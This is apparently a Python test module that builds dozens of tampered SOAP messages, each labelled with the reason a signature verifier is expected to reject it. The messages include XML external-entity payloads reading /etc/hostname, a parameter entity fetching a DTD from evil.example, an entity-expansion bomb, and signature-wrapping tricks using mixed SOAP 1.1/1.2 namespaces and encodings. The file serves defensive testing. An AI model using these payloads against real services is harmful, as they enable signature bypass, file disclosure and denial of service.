"""
Another document is read than the one that was signed: by a document type
definition, by the two namespaces of SOAP, or by its encoding.
"""

from __future__ import annotations

from collections.abc import Iterator

from tests.soap.wrapping.honest import (
    ALTERED,
    EVIL,
    INSTANCE,
    NO_PART,
    PARTS,
    UNSIGNED,
    Attack,
    Honest,
    Make,
    Why,
    in_text,
    malformed,
)

SOAP_11 = "http://schemas.xmlsoap.org/soap/envelope/"
SOAP_12 = "http://www.w3.org/2003/05/soap-envelope"

_DTD = malformed("A document type definition is not taken")
_ILL = malformed("not well-formed")
_NO_ENVELOPE = malformed("not a SOAP envelope")
_NOT_WIDE = malformed("declared as UTF-16, and is not in it")
_EBCDIC = malformed("EBCDIC is not taken")
_NOT_TAKEN = malformed("is not taken")

_START = "<soap:Envelope "
_BODY = '<soap:Body wsu:Id="Body">'

_DEFINITIONS: dict[str, str] = {
    "An id by default": '<!ATTLIST soap:Body wsu:Id CDATA "Body">',
    "An id by default, fixed": '<!ATTLIST soap:Body Id CDATA #FIXED "Body">',
    "An id by default, of type ID": '<!ATTLIST soap:Body x ID "Body">',
    "Another attribute is the id": "<!ATTLIST DescribeInstances x ID #IMPLIED>",
    "A namespace by default": '<!ATTLIST soap:Body xmlns:wsu CDATA "urn:evil">',
    "The entry's namespace by default": (
        '<!ATTLIST DescribeInstances xmlns CDATA "http://ec2.amazonaws.com/doc/">'
    ),
    "An entity that is not used": '<!ENTITY x "evil">',
    "An external entity": '<!ENTITY x SYSTEM "file:///etc/hostname">',
    "A parameter entity": '<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;',
    "An unparsed entity": (
        '<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "x.gif" NDATA n>'
    ),
    "A notation": '<!NOTATION n PUBLIC "n">',
    "An element's model": "<!ELEMENT soap:Body EMPTY>",
    "Nothing": "",
    "A comment": "<!-- x -->",
}


def _typed(definition: str, *changes: tuple[str, str]) -> Make:
    declared = f"<!DOCTYPE soap:Envelope [{definition}]>{_START}"
    return in_text(*changes, (_START, declared))


def _definitions() -> Iterator[Attack]:
    for name, definition in _DEFINITIONS.items():
        yield Attack(name=f"Defined: {name}", make=_typed(definition), why=_DTD)
    for name, doctype in (
        ("An external definition", 'SYSTEM "http://evil.example/x.dtd"'),
        ("A public one", 'PUBLIC "-//W3C//DTD XHTML 1.0//EN" "x.dtd"'),
        ("None but a name", ""),
    ):
        yield Attack(
            name=name,
            make=in_text((_START, f"<!DOCTYPE soap:Envelope {doctype}>{_START}")),
            why=_DTD,
        )
    bomb = '<!ENTITY a0 "i-66666666">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
    )
    for name, definition, changes in (
        (
            "The instance by an entity",
            f'<!ENTITY x "{INSTANCE}">',
            ((INSTANCE, "&x;"),),
        ),
        (
            "Another instance by an entity",
            '<!ENTITY x "i-66666666">',
            ((INSTANCE, "&x;"),),
        ),
        ("A part of it by an entity", '<!ENTITY x "5678">', (("5678<", "&x;<"),)),
        ("An entity that is a file", _HOSTNAME, ((INSTANCE, "&x;"),)),
        ("The entry by an entity", f"<!ENTITY x '{EVIL}'>", ((_BODY, f"{_BODY}&x;"),)),
        (
            "The id by default, the Body without",
            '<!ATTLIST soap:Body wsu:Id CDATA "Body">',
            ((_BODY, "<soap:Body>"),),
        ),
        (
            "The id by an entity",
            '<!ENTITY x "Body">',
            ((_BODY, '<soap:Body wsu:Id="&x;">'),),
        ),
    ):
        yield Attack(name=name, make=_typed(definition, *changes), why=_DTD)
    yield Attack(name="An entity bomb", make=_typed(bomb, (INSTANCE, "&a9;")), why=_DTD)
    yield Attack(
        name="A definition after the Envelope",
        make=in_text(("</soap:Envelope>", "</soap:Envelope><!DOCTYPE x>")),
        why=_ILL,
    )
    yield Attack(
        name="A definition in the Envelope",
        make=in_text((_BODY, f"<!DOCTYPE x>{_BODY}")),
        why=_ILL,
    )


_HOSTNAME = '<!ENTITY x SYSTEM "file:///etc/hostname">'


# --- SOAP 1.1 and 1.2 -------------------------------------------------------


def _part(name: str, uri: str, attributes: str = "") -> tuple[tuple[str, str], ...]:
    """The part of that name in another namespace."""
    old = f"<soap:{name}{attributes}>"
    return (
        (old, f'<o:{name} xmlns:o="{uri}"{attributes}>'),
        (f"</soap:{name}>", f"</o:{name}>"),
    )


_ID = ' wsu:Id="Body"'
_OLD_BODY = f'<o:Body xmlns:o="{SOAP_12}">{EVIL}</o:Body>'
_XMLNS = f'xmlns:soap="{SOAP_11}"'

_MIXED: tuple[tuple[str, tuple[tuple[str, str], ...], Why], ...] = (
    ("The Body is of SOAP 1.2", _part("Body", SOAP_12, _ID), PARTS),
    ("The Header is of SOAP 1.2", _part("Header", SOAP_12), PARTS),
    (
        "Header and Body are of SOAP 1.2",
        (*_part("Header", SOAP_12), *_part("Body", SOAP_12, _ID)),
        PARTS,
    ),
    (
        "Only the Envelope is of SOAP 1.2",
        (
            (f"{_START}{_XMLNS}", f'<e:Envelope xmlns:e="{SOAP_12}" {_XMLNS}'),
            ("</soap:Envelope>", "</e:Envelope>"),
        ),
        PARTS,
    ),
    ("All is of SOAP 1.2", ((_XMLNS, f'xmlns:soap="{SOAP_12}"'),), ALTERED),
    (
        "All but the Body is of SOAP 1.2",
        (
            (_XMLNS, f'xmlns:soap="{SOAP_12}"'),
            (_BODY, f"<soap:Body {_XMLNS} wsu:Id='Body'>"),
        ),
        PARTS,
    ),
    ("A Body of SOAP 1.2 before it", ((_BODY, f"{_OLD_BODY}{_BODY}"),), PARTS),
    (
        "A Body of SOAP 1.2 after it",
        (("</soap:Envelope>", f"{_OLD_BODY}</soap:Envelope>"),),
        PARTS,
    ),
    (
        "A Header of SOAP 1.2 before it",
        (("<soap:Header>", f'<o:Header xmlns:o="{SOAP_12}"/><soap:Header>'),),
        PARTS,
    ),
    (
        "A namespace like SOAP's",
        ((_XMLNS, f'xmlns:soap="{SOAP_11[:-1]}"'),),
        _NO_ENVELOPE,
    ),
    ("No namespace of SOAP", ((_XMLNS, 'xmlns:soap="urn:evil"'),), _NO_ENVELOPE),
    (
        "The Envelope in small letters",
        ((_START, "<soap:envelope "), ("</soap:Envelope>", "</soap:envelope>")),
        _NO_ENVELOPE,
    ),
)


def _wrapped_for_12(honest: Honest) -> bytes:
    """SOAP 1.2's word that a block must be understood says nothing in 1.1."""
    text = honest.document.decode()
    before, signed, after = text.partition(_BODY)
    inner, close, end = after.partition("</soap:Body>")
    block = f'<x xmlns:o="{SOAP_12}" o:mustUnderstand="1">{signed}{inner}{close}</x>'
    before = before.replace("</soap:Header>", f"{block}</soap:Header>")
    return f"{before}<soap:Body>{EVIL}{close}{end}".encode()


def _soaps() -> Iterator[Attack]:
    for name, changes, why in _MIXED:
        yield Attack(name=name, make=in_text(*changes), why=why)
    yield Attack(
        name="The signed Body in a block that must be understood in SOAP 1.2",
        make=_wrapped_for_12,
        why=NO_PART,
    )


# --- how it is written ------------------------------------------------------


def _recoded(declared: str, encoding: str) -> Make:
    def make(honest: Honest) -> bytes:
        text = honest.document.decode().replace("UTF-8", declared, 1)
        return text.encode(encoding)

    return make


def _twice(honest: Honest) -> bytes:
    return honest.document + honest.document.partition(b"?>")[2]


def _bare(honest: Honest) -> bytes:
    return EVIL.encode()


def _evil_first(honest: Honest) -> bytes:
    body = f'<s:Envelope xmlns:s="{SOAP_11}"><s:Body>{EVIL}</s:Body></s:Envelope>'
    return body.encode() + honest.document.partition(b"?>")[2]


def _cut(honest: Honest) -> bytes:
    return honest.document[:-1]


def _null(honest: Honest) -> bytes:
    return honest.document + b"\0" + EVIL.encode()


def _evil_alone(honest: Honest) -> bytes:
    body = f'<s:Envelope xmlns:s="{SOAP_11}"><s:Body>{EVIL}</s:Body></s:Envelope>'
    return body.encode()


_WRITTEN: tuple[tuple[str, Make, Why], ...] = (
    ("Declared as UTF-16, and is UTF-8", _recoded("UTF-16", "utf-8"), _NOT_WIDE),
    ("Declared as EBCDIC", _recoded("IBM037", "cp037"), _EBCDIC),
    ("Declared as nothing known", _recoded("x-evil", "utf-8"), _NOT_TAKEN),
    ("Two documents", _twice, _ILL),
    ("Two documents, the attacker's first", _evil_first, _ILL),
    ("A document that is cut", _cut, _ILL),
    ("A null between documents", _null, _ILL),
    ("No envelope", _bare, _NO_ENVELOPE),
    ("No signature", _evil_alone, UNSIGNED),
    (
        "Bytes that are no UTF-8",
        lambda honest: honest.document.replace(b"i-1234", b"i-\xc0\xb1234"),
        _ILL,
    ),
    (
        "An attribute twice",
        in_text((_BODY, '<soap:Body wsu:Id="Body" wsu:Id="Body">')),
        _ILL,
    ),
    (
        "An attribute twice, by two prefixes",
        in_text(
            (
                _BODY,
                '<soap:Body xmlns:p="http://docs.oasis-open.org/wss/2004/01/'
                'oasis-200401-wss-wssecurity-utility-1.0.xsd" p:Id="Body" '
                'wsu:Id="Other">',
            )
        ),
        _ILL,
    ),
    (
        "A prefix that is not bound",
        in_text((_BODY, '<soap:Body evil:Id="Body">')),
        _ILL,
    ),
    (
        "The reserved prefix for another namespace",
        in_text((_BODY, f'{_BODY[:-1]} xmlns:xml="urn:evil">')),
        _ILL,
    ),
    (
        "The id's colon is part of its name",
        in_text((_BODY, '<soap:Body wsu:Id:x="Body">')),
        _ILL,
    ),
)


def _writings() -> Iterator[Attack]:
    for name, make, why in _WRITTEN:
        yield Attack(name=name, make=make, why=why)


def attacks() -> Iterator[tuple[str, Attack]]:
    """With their families."""
    for family, maker in (
        ("Document type definitions", _definitions),
        ("SOAP 1.1 and 1.2 mixed", _soaps),
        ("Encodings", _writings),
    ):
        for one in maker():
            yield family, one
